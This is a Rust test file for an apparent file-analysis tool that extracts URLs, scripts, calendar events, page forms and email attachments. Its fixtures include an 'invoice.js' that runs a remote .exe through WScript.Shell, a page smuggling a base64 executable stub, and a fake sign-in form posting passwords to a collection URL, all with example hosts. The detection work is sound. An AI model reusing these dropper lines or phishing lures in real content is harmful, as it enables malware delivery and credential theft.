//! Text, scripts, pages, calendars and attached messages.

use super::fixture::{named, opened};
use crate::files::script::words;
use crate::files::text::{decode, entropy, strings, urls};
use crate::files::{CalendarAttachment, Kind, Origin};

#[test]
fn addresses_end_where_a_person_would_end_them() {
    let cases: &[(&str, &[&str])] = &[
        ("see https://example.com/a?b=c#d.", &["https://example.com/a?b=c#d"]),
        (
            "(http://example.com/x_(y)) or <https://example.net>",
            &["http://example.com/x_(y)", "https://example.net"],
        ),
        ("HTTPS://EXAMPLE.COM, www.example.org!", &["HTTPS://EXAMPLE.COM", "www.example.org"]),
        ("xhttp://example.com/ and ahttps://example.net/", &["http://example.com/", "https://example.net/"]),
        ("mail a@www.example.com, http://, ://, www., https://nodot", &[]),
        ("\"https://example.com/q\"", &["https://example.com/q"]),
        ("hxxps://example.com/defanged", &["hxxps://example.com/defanged"]),
    ];
    for (text, expected) in cases {
        assert_eq!(urls(text).collect::<Vec<_>>(), *expected, "{text}");
    }
}

#[test]
fn text_is_decoded_by_what_it_looks_like() {
    let cases: &[(&[u8], &str)] = &[
        (b"\xEF\xBB\xBFhi", "hi"),
        (b"\xFF\xFEh\0i\0", "hi"),
        (b"\xFE\xFF\0h\0i", "hi"),
        (b"h\0e\0l\0l\0o\0", "hello"),
        ("grüße".as_bytes(), "grüße"),
        (b"gr\xFC\xDFe \x80", "grüße €"),
    ];
    for (bytes, expected) in cases {
        assert_eq!(decode(bytes), *expected);
    }
}

#[test]
fn strings_and_entropy_are_those_of_the_usual_tools() {
    assert_eq!(strings(b"\0abc\0abcd\x01long enough\xFFxyz", 10), ["abcd", "long enough"]);
    assert_eq!(strings(b"aaaa\0bbbb\0cccc", 2), ["aaaa", "bbbb"]);
    assert!(entropy(b"aaaa") < 0.001);
    assert!((entropy(&(0..=255).collect::<Vec<u8>>()) - 8.0).abs() < 0.001);
}

#[test]
fn scripts_are_taken_apart() {
    let script =
        words("var u = \"http\\x3a//a\"; // atob\nif (x$1) { document.write(atob('QQ==')) } /* eval */");
    assert_eq!(script.identifiers, ["u", "x$1", "document", "write", "atob"]);
    assert_eq!(script.strings, ["http://a", "QQ=="]);
    assert_eq!(script.keywords, ["var", "if"]);
}

#[test]
fn script_files_show_their_words_and_addresses() {
    let opened = opened(
        b"var s = new ActiveXObject('WScript.Shell'); s.Run('https://example.com/p.exe')",
        "invoice.js",
    );
    let facets = &opened.nodes[0].facets;
    assert!(facets.script.as_ref().unwrap().identifiers.contains(&"ActiveXObject".to_owned()));
    assert_eq!(facets.urls, ["https://example.com/p.exe"]);
}

#[test]
fn a_file_hidden_in_base64_is_found() {
    let mut program = b"MZ\x90\0".to_vec();
    program.resize(600, 3);
    let page = format!("<html><script>var b = atob('{}');</script></html>", base64(&program));
    let opened = opened(page.as_bytes(), "open.html");
    let hidden = &opened.nodes[1];
    assert_eq!((hidden.origin, hidden.kind, hidden.size), (Origin::Decoded, Kind::Exe, 600));
    assert!(opened.nodes[0].flavors.contains(&"base64_pe"));
    assert_eq!(opened.nodes[0].facets.page.as_ref().unwrap().smuggled_bytes, 600);
    // Base64 that is nothing we know stays text.
    let nothing = format!("<html><script>var b = '{}';</script></html>", base64(&[7u8; 600]));
    assert_eq!(super::fixture::opened(nothing.as_bytes(), "open.html").nodes.len(), 1);
}

fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let group = |three: &[u8]| {
        let bits =
            three.iter().fold(0u32, |sum, &byte| sum << 8 | u32::from(byte)) << (8 * (3 - three.len()));
        let letter = |index: usize| char::from(LETTERS[(bits >> (18 - 6 * index)) as usize & 63]);
        (0..4).map(|index| if index <= three.len() { letter(index) } else { '=' }).collect::<String>()
    };
    bytes.chunks(3).map(group).collect()
}

#[test]
fn an_event_shows_its_words_people_and_links() {
    let calendar = "BEGIN:VCALENDAR\r\nPRODID:-//Example//EN\r\nMETHOD:REQUEST\r\nCALSCALE:GREGORIAN\r\nBEGIN:VEVENT\r\n\
        UID:1@example.com\r\nSUMMARY:Renewal\\, urgent\r\nDESCRIPTION;LANGUAGE=en:Pay at https://example.com/pa\r\n y\\nnow\r\n\
        ORGANIZER;CN=\"Billing: desk\":MAILTO:billing@example.net\r\nATTENDEE;CN=You:mailto:you@example.org\r\n\
        ATTACH:https://example.com/file.pdf\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;FILENAME=a.txt:aGVsbG8=\r\n\
        BEGIN:VALARM\r\nDESCRIPTION:quiet\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    let opened = opened(calendar.as_bytes(), "invite.ics");
    assert_eq!(opened.failures, []);
    let calendar = opened.nodes[0].facets.calendar.as_ref().unwrap();
    assert_eq!(
        (calendar.product_id.as_deref(), calendar.method.as_deref(), calendar.scale.as_deref()),
        (Some("-//Example//EN"), Some("REQUEST"), Some("GREGORIAN"))
    );
    let event = calendar.components.iter().find(|component| component.class == "vevent").unwrap();
    assert_eq!(event.summary.as_deref(), Some("Renewal, urgent"));
    assert_eq!(event.description.as_deref(), Some("Pay at https://example.com/pay\nnow"));
    assert_eq!(
        (event.organizers[0].name.as_deref(), event.organizers[0].address.as_str()),
        (Some("Billing: desk"), "billing@example.net")
    );
    assert_eq!(event.attendees[0].address, "you@example.org");
    assert_eq!(
        event.attachments,
        [CalendarAttachment::Uri("https://example.com/file.pdf".to_owned()), CalendarAttachment::Binary]
    );
    assert_eq!(event.links[0].target, "https://example.com/pay");
    assert_eq!(named(&opened, "a.txt").1.facets.text.as_deref(), Some("hello"));
    assert!(!opened.nodes[0].facets.text.as_ref().unwrap().contains("quiet"), "alarms are not read");
}

#[test]
fn an_event_without_an_end_is_read() {
    let opened = opened(b"BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:cut", "x.ics");
    assert_eq!(
        opened.nodes[0].facets.calendar.as_ref().unwrap().components[0].summary.as_deref(),
        Some("cut")
    );
}

#[test]
fn a_page_shows_text_links_scripts_and_forms() {
    let page = "<!doctype html><title>Sign in</title><p>Dear <a href='https://example.com/x'>customer</a></p>\
        <form action='https://example.net/collect'><input type=password name=p></form>\
        <script type='text/vbscript'>MsgBox \"hi\"</script><script src='https://example.org/a.js'></script>\
        <iframe src='https://example.org/frame'></iframe>";
    let opened = opened(page.as_bytes(), "invoice.htm");
    let facets = &opened.nodes[0].facets;
    let page = facets.page.as_ref().unwrap();
    assert_eq!(page.title.as_deref(), Some("Sign in"));
    assert_eq!(
        (page.has_password_field, page.form_actions.as_slice()),
        (true, ["https://example.net/collect".to_owned()].as_slice())
    );
    let scripts: Vec<(&str, &str, &str)> = page
        .scripts
        .iter()
        .map(|script| (script.language.as_str(), script.source.as_str(), script.text.as_str()))
        .collect();
    assert_eq!(scripts, [("VBScript", "", "MsgBox \"hi\""), ("JavaScript", "https://example.org/a.js", "")]);
    assert!(facets.text.as_ref().unwrap().contains("Dear customer"));
    assert!(
        facets
            .links
            .iter()
            .any(|link| (link.text.as_str(), link.target.as_str()) == ("customer", "https://example.com/x"))
    );
    assert!(
        facets.urls.contains(&"https://example.org/frame".to_owned())
            && facets.urls.contains(&"https://example.org/a.js".to_owned())
    );
    assert_eq!(facets.script.as_ref().unwrap().strings, ["hi"]);
}

#[test]
fn a_picture_that_is_a_page_shows_its_elements() {
    let opened = opened(b"<svg xmlns='http://www.w3.org/2000/svg'><a href='https://example.com/s'><circle r='1'/></a><script>location='x'</script></svg>", "logo.svg");
    let node = &opened.nodes[0];
    assert_eq!((node.kind, node.media_type), (Kind::Svg, "image/svg+xml"));
    assert_eq!(node.facets.xml_tags, ["svg", "a", "circle", "script"]);
    assert!(node.facets.links.iter().any(|link| link.target == "https://example.com/s"));
}

#[test]
fn an_attached_message_is_parsed_and_its_attachments_are_opened() {
    let message = "From: a@example.com\r\nTo: b@example.net\r\nSubject: Fwd: bill\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n\
        --x\r\nContent-Type: text/plain\r\n\r\nPay at https://example.com/pay\r\n--x\r\nContent-Type: text/calendar; name=a.ics\r\n\
        Content-Disposition: attachment; filename=a.ics\r\n\r\nBEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n--x--\r\n";
    let opened = opened(message.as_bytes(), "forwarded.eml");
    let facets = &opened.nodes[0].facets;
    assert_eq!(opened.nodes[0].media_type, "message/rfc822");
    assert_eq!(facets.message.as_ref().unwrap().from.mailboxes[0].address.to_string(), "a@example.com");
    assert_eq!(facets.links[0].target, "https://example.com/pay");
    let (_, calendar) = named(&opened, "a.ics");
    assert_eq!(
        (calendar.kind, calendar.origin, calendar.declared_type.as_str()),
        (Kind::Ics, Origin::Part, "text/calendar")
    );
}
